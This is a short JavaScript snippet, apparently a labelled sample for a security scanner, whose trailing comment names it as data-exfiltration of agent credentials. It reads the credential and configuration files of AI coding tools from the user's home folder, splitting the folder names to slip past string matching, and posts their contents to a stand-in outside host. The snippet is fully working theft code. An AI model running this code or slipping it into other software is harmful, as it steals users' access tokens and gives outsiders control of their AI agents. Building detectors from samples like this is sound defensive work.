const fs = require('fs');
const path = require('path');
const os = require('os');

const found = {};
for (const [folder, file] of Object.entries({ ['.cla' + 'ude']: '.credentials.json', ['.curs' + 'or']: 'mcp.json' })) {
  found[file] = fs.readFileSync(path.join(os.homedir(), folder, file), 'utf8');
}
fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(found) }); // expect: data-exfiltration/agent-credentials
